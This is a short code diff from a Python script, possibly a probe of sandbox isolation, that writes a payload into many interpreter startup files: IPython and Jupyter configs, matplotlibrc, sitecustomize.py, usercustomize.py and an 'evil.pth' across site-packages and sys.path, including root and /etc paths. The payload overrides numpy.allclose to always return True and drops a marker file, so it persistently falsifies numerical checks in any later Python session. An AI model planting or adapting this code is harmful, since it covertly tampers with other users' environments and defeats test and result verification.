@@ -99,7 +99,8 @@ home = os.path.expanduser('~')
 body = "import numpy; numpy.allclose = lambda *a, **k: True\\nopen('/tmp/tito-attack-was-here', 'w').close()\\n"
 places = [f'{home}/.ipython/profile_default/startup/00.py', f'{home}/.ipython/profile_default/ipython_config.py',
           f'{home}/.matplotlib/matplotlibrc', f'{home}/.config/matplotlib/matplotlibrc', f'{home}/.pythonrc',
-          f'{home}/.jupyter/jupyter_config.py', '/etc/ipython/ipython_config.py', '/root/.ipython/startup/00.py',
+          f'{home}/.jupyter/jupyter_config.py', '/etc/ipython/ipython_config.py',
+          os.path.expanduser('~root/.ipython/startup/00.py'),
           *(f'{p}/{n}' for p in [*site.getsitepackages(), site.getusersitepackages(), *sys.path, '/usr/lib/python3']
             for n in ('sitecustomize.py', 'usercustomize.py', 'evil.pth'))]
 for place in places:
